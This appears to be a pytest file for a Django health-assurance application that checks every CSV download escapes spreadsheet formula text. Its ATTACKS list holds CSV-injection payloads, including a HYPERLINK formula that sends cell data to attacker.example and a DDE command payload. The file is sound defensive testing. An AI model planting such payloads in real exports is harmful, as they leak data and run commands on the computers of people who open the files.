"""Every CSV download is safe to open in a spreadsheet: text a spreadsheet would run as a formula is quoted.

The walk finds every URL whose route ends in ``.csv``; each must have a case below that puts attacker-controlled
text (a pooled budget's name, a joint needs assessment's title and needs, an indicator's name, a rollup's labels)
into the file, so a new CSV download without a case fails here.
"""

import csv
import datetime
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from assurance.csvfile import FORMULA_STARTS, safe_cell
from assurance.models import Organisation
from assurance.national import charts
from assurance.national.models import Rollup
from outcomes.choices import LegalBasis
from outcomes.models import Indicator, PooledBudget, PriorityOutcome
from tests.outcomes.conftest import load_values
from tests.partnerships.access_cases import needs_assessment

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"detail")'
ATTACKS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-cmd|' /C calc'!A0"]


def _csv_routes(resolver=None, prefix: str = "") -> set[str]:
    """The names (namespace:name) of every URL whose route ends in .csv."""
    found = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace == "moved":
                continue  # an old address that redirects to its CSV (tests/assurance/test_moved.py)
            namespace = f"{pattern.namespace}:" if pattern.namespace else prefix
            found |= _csv_routes(pattern, namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv") and pattern.name:
            found.add(prefix + pattern.name)
    return found


def _partnerships(world) -> tuple[str, list]:
    budget = PooledBudget.objects.create(
        name=HYPERLINK, legal_basis=LegalBasis.choices[0][0], services="Alcohol services"
    )
    budget.partners.set([world.pct, world.council])
    jna = needs_assessment(world)
    jna.title, jna.needs = "@SUM(A1:A2)", ATTACKS
    jna.save()
    url = reverse("partnerships:csv", kwargs={"ons_code": world.council.code})
    return url, [HYPERLINK, "@SUM(A1:A2)", *ATTACKS]


def _indicator_named_as_attack() -> Indicator:
    load_values(pct_count=3, indicators=["LE_BIRTH_M"])
    indicator = Indicator.objects.get(code="LE_BIRTH_M")
    indicator.name = HYPERLINK
    indicator.save()
    return indicator


def _scorecard(world) -> tuple[str, list]:
    PriorityOutcome.objects.create(assessment=world.assessment, indicator=_indicator_named_as_attack())
    return reverse("outcomes:scorecard_csv", kwargs={"code": world.pct.code, "cycle": world.cycle.code}), [HYPERLINK]


def _data_pack(world) -> tuple[str, list]:
    indicator = _indicator_named_as_attack()
    url = reverse("outcomes:data_pack_csv", kwargs={"code": world.pct.code})
    return f"{url}?area={indicator.data_pack_area}", [HYPERLINK]


def _national(world) -> tuple[str, list]:
    kind = "competency_levels"
    columns = [column for column, _ in charts.columns(kind)]
    row = [ATTACKS[i % len(ATTACKS)] for i in range(len(columns))]
    row[-1] = -1.5
    england = Organisation.objects.get(code="E92000001")
    Rollup.objects.update_or_create(
        cycle=world.cycle, scope=england, kind=kind, defaults={"table": {"columns": columns, "rows": [row]}}
    )
    return reverse("national:download", args=[world.cycle.code, england.code, kind]), row[:-1]


def _development_plan(world) -> tuple[str, list]:
    from development.models import Action, Recommendation
    from tests.development.helpers import add_action, signed_off

    assessment = signed_off(world)
    add_action(world, assessment)
    Recommendation.objects.filter(assessment=assessment, number=1).update(text=HYPERLINK)
    Action.objects.update(text="@SUM(A1:A2)", measure="-2+3")
    url = reverse("development:plan_csv", kwargs={"cycle": world.cycle.code, "code": world.pct.code})
    return url, [HYPERLINK, "@SUM(A1:A2)", "-2+3"]


def _compare(world) -> tuple[str, list]:
    indicator = _indicator_named_as_attack()
    return reverse("outcomes:compare_csv", kwargs={"cycle": world.cycle.code, "indicator": indicator.code}), [HYPERLINK]


def _moderation(world) -> tuple[str, list]:
    from assurance.national.models import ModerationNote

    competency = world.cycle.competencies.get(number=1)
    ModerationNote.objects.create(cycle=world.cycle, sha=world.sha, competency=competency, text=HYPERLINK)
    return reverse("national:moderation_download", args=[world.cycle.code, world.sha.code]), [HYPERLINK]


def _partner_results(world) -> tuple[str, list]:
    from feedback.selectors import asked_competencies
    from tests.feedback.helpers import invite

    competency = asked_competencies(world.cycle)[0]
    competency.short_name = "@SUM(A1:A2)"  # framework text: the loader takes it from a file
    competency.save()
    invite(world)
    return reverse("feedback:results_csv", args=[world.cycle.code, world.pct.code]), ["@SUM(A1:A2)"]


def _partner_invitations(world) -> tuple[str, list]:
    from tests.feedback.helpers import invite

    Organisation.objects.filter(pk=world.pct.pk).update(name=HYPERLINK)
    invite(world)
    return reverse("feedback:sha_csv", args=[world.cycle.code, world.sha.code]), [HYPERLINK]


# URL name -> (who downloads it, a function that stores attacker text and returns the URL and the texts to find)
CASES = {
    "partnerships:csv": ("la_partner", _partnerships),
    "outcomes:scorecard_csv": ("pct_lead", _scorecard),
    "outcomes:data_pack_csv": ("pct_lead", _data_pack),
    "national:download": ("dh_analyst", _national),
    "development:plan_csv": ("pct_contributor", _development_plan),
    "outcomes:compare_csv": ("pct_lead", _compare),
    "national:moderation_download": ("sha_lead", _moderation),
    "feedback:results_csv": ("sha_lead", _partner_results),
    "feedback:sha_csv": ("sha_lead", _partner_invitations),
}


def test_every_csv_download_has_a_case():
    assert _csv_routes() == set(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_no_cell_of_a_csv_download_starts_a_formula(world, name):
    role, arrange = CASES[name]
    url, attacks = arrange(world)
    response = world.client_for(role).get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode(), newline="")) for cell in row]
    for attack in attacks:
        assert "'" + attack in cells, f"{attack!r} is not in the file as quoted text"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell]
    assert dangerous == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_a_formula_is_quoted(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", [-1.5, "-1.5", "-2", "-0.25", "-1e-05", 3, "74.5", "", None, "Manchester", "O'Neill", "E08000003"]
)
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_dates_and_other_values_are_written_as_text():
    assert safe_cell(datetime.date(2009, 6, 30)) == "2009-06-30"
